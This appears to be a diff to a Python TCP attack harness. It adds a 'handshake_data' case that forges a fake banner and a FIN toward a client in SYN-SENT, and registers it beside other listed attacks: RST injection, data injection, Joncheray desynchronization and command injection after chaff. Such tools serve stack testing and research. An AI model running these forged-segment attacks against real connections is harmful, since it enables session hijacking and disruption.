@@ -365,6 +365,19 @@ def a_synack_race(at):
         at.follow()
 
 
+def a_handshake_data(at):
+    """On the client's SYN, data (and then a FIN) as the server before any SYN-ACK: a
+    client in SYN-SENT takes only a SYN, so its kernel drops both; the real SYN-ACK
+    follows (the scenario delays it)."""
+    fr = at.wait_for(lambda f: at.from_client(f) and f.flags & SYN and not f.flags & ACK, "SYN")
+    if fr:
+        seq = at.rng.getrandbits(32)
+        data = b"220 forged banner\r\n"
+        at.forge("s", "PA", seq, fr.seq + 1, data, ts=False, note="data to SYN-SENT")
+        at.forge("s", "FA", seq + len(data), fr.seq + 1, ts=False, note="FIN to SYN-SENT")
+        at.follow()
+
+
 def a_early_desync(at):
     """Joncheray's early desynchronization: as soon as the server answers the SYN,
     reset the server's side and open it again as the client with another ISN, then
@@ -485,7 +498,7 @@ def a_chaff_inject(at):
         at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command after chaff")
 
 
-ATTACKS = {"chaff": a_chaff, "chaff_inject": a_chaff_inject, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
+ATTACKS = {"chaff": a_chaff, "chaff_inject": a_chaff_inject, "handshake_data": a_handshake_data, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
            "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
            "race_response": a_race_response, "synack_race": a_synack_race,
            "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
